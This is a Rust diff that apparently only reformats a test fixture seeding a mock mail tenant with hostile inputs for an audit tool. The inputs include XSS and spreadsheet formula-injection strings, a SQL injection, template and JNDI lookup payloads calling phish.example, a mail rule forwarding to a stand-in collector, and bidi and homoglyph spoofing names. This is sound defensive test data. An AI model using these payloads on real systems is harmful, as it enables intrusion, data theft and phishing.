@@ -44,42 +44,18 @@ fn too_many_administrators(tenant: &mut Foundation) {
 fn hostile(tenant: &mut Foundation) {
     let long = "Wolfeschlegelsteinhausenbergerdorff".repeat(12);
     let names: [(&str, &str, &str); 12] = [
-        (
-            "script",
-            "<script>alert(1)</script>",
-            "</td></table><img src=x onerror=alert(2)>",
-        ),
-        (
-            "formula",
-            "=HYPERLINK(\"https://phish.example/?x=\"&A1,\"open\")",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-        ),
+        ("script", "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(2)>"),
+        ("formula", "=HYPERLINK(\"https://phish.example/?x=\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
         ("plus", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
         ("tab", "\t=1+1", "\r\n=2+2"),
         ("bidi", "\u{202e}gpj.tnemyap", "\u{2066}isolated\u{2069}"),
         ("zero-width", "Hel\u{200b}ena", "Str\u{feff}and"),
-        (
-            "control",
-            "Bell\u{7}Escape\u{1b}[31mred\u{1b}[0m",
-            "Nul\u{0}Delete\u{7f}",
-        ),
+        ("control", "Bell\u{7}Escape\u{1b}[31mred\u{1b}[0m", "Nul\u{0}Delete\u{7f}"),
         ("long", &long, &long),
         ("unicode", "Zoë 🦀 李", "Ægir-Þór ﷽ Ω"),
-        (
-            "quotes",
-            "Robert\"); DROP TABLE users;--",
-            "O'Brien, \"Bob\"",
-        ),
-        (
-            "template",
-            "{{constructor.constructor('alert(3)')()}}",
-            "${jndi:ldap://phish.example/a}",
-        ),
-        (
-            "markdown",
-            "[click](javascript:alert(4))",
-            "| a | b |\n|---|---|",
-        ),
+        ("quotes", "Robert\"); DROP TABLE users;--", "O'Brien, \"Bob\""),
+        ("template", "{{constructor.constructor('alert(3)')()}}", "${jndi:ldap://phish.example/a}"),
+        ("markdown", "[click](javascript:alert(4))", "| a | b |\n|---|---|"),
     ];
     for (login, given, family) in names {
         let person = tenant.hire_as(&format!("hostile-{login}"), given, family);
@@ -97,10 +73,8 @@ fn hostile(tenant: &mut Foundation) {
             criteria: serde_json::json!({ "from": family, "query": given }),
             action: serde_json::json!({ "forward": "collector@phish.example" }),
         }];
-        person.mailbox.delegates = vec![Delegate {
-            email: "admin@example.com".to_owned(),
-            status: "accepted",
-        }];
+        person.mailbox.delegates =
+            vec![Delegate { email: "admin@example.com".to_owned(), status: "accepted" }];
     }
     // Letters that look like the chief's.
     let lookalike = tenant.hire_as("lookalike", "Неlena", "Strаnd");
@@ -123,20 +97,13 @@ fn unverified(tenant: &mut Foundation) {
 }
 
 fn refusing(tenant: &mut Foundation) {
-    tenant
-        .hire_as("vault-hold", "Vault", "Hold")
-        .mailbox
-        .service = MailService::Refused;
-    tenant
-        .hire_as("context-aware", "Context", "Aware")
-        .mailbox
-        .service = MailService::Refused;
+    tenant.hire_as("vault-hold", "Vault", "Hold").mailbox.service = MailService::Refused;
+    tenant.hire_as("context-aware", "Context", "Aware").mailbox.service = MailService::Refused;
 }
 
 fn clients(tenant: &mut Foundation) {
-    tenant
-        .account("everything", "=cmd|' /C calc'!A0 <script>alert(7)</script>")
-        .description = "\u{202e}lacitirc \u{1b}[2J".to_owned();
+    tenant.account("everything", "=cmd|' /C calc'!A0 <script>alert(7)</script>").description =
+        "\u{202e}lacitirc \u{1b}[2J".to_owned();
     tenant.key(KeyOrigin::Uploaded, 2000);
     tenant.key(KeyOrigin::UserManaged, 700);
     tenant.key(KeyOrigin::UserManaged, 3);
@@ -151,9 +118,7 @@ fn clients(tenant: &mut Foundation) {
         "ediscovery",
         "drive",
     ]);
-    tenant
-        .account("switched-off", "Switched off, still delegated")
-        .disabled = true;
+    tenant.account("switched-off", "Switched off, still delegated").disabled = true;
     tenant.key(KeyOrigin::UserManaged, 800);
     tenant.delegate(&["gmail.send"]);
 
@@ -161,10 +126,7 @@ fn clients(tenant: &mut Foundation) {
     tenant.grant(
         "<img src=x onerror=alert(8)>",
         &vendor,
-        &[
-            "https://mail.google.com/",
-            "https://apps-apis.google.com/a/feeds/compliance/audit/",
-        ],
+        &["https://mail.google.com/", "https://apps-apis.google.com/a/feeds/compliance/audit/"],
     );
     // The audit's own key is old and without an end here.
     let made_at = tenant.days_ago(500);
